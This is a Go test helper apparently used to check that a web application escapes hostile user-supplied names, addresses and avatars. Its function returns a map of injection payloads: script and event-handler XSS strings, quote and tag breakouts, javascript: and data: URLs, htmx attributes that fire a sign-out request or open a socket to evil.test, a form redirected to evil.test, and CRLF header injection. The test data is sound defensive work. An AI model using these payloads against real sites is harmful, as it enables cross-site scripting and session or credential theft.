package htmltest

// Hostile returns values that people could give themselves as a name, an address or an avatar, each in the hope that a
// page takes a part of it for markup, for an attribute or for a script. The keys say what they try.
func Hostile() map[string]string {
	return map[string]string{
		"script element":            `<script>alert(1)</script>`,
		"image with a handler":      `<img src=x onerror=alert(1)>`,
		"out of a double quote":     `"><svg/onload=alert(1)>`,
		"out of a single quote":     `' onmouseover='alert(1)`,
		"end of title":              `</title><script>alert(1)</script>`,
		"end of template":           `</template><script>alert(1)</script>`,
		"end of textarea":           `</textarea><script>alert(1)</script>`,
		"start of a comment":        `<!-- `,
		"end of a comment":          `--><script>alert(1)</script>`,
		"template expression":       `{{7*7}}`,
		"percent encoding":          `%3Cscript%3Ealert(1)%3C/script%3E`,
		"entities":                  `&lt;script&gt;alert(1)&lt;/script&gt;`,
		"invalid UTF-8":             "Al\xffice\xc3<b>",
		"overlong UTF-8":            "\xc0\xbcscript\xc0\xbe",
		"javascript URL":            `javascript:alert(1)`,
		"javascript URL with a tab": "java\tscript:alert(1)",
		"data URL":                  `data:text/html,<script>alert(1)</script>`,
		"htmx request":              `" hx-get="/link/sign_out" hx-trigger="load`,
		"htmx handler":              `" hx-on:load="alert(1)`,
		"htmx data attribute":       `" data-hx-on:load="alert(1)`,
		"htmx socket":               `"><div ws-connect="wss://evil.test"></div>`,
		"out-of-band swap":          `<div id="account-switcher" hx-swap-oob="true">pwn</div>`,
		"style":                     `<style>*{display:none}</style>`,
		"form around":               `</form><form action="https://evil.test">`,
		"right to left":             "Alice\u202eecilA",
		"line breaks":               "Alice\r\nSet-Cookie: a=b",
		"format verb":               `%s%d%!(EXTRA)`,
	}
}
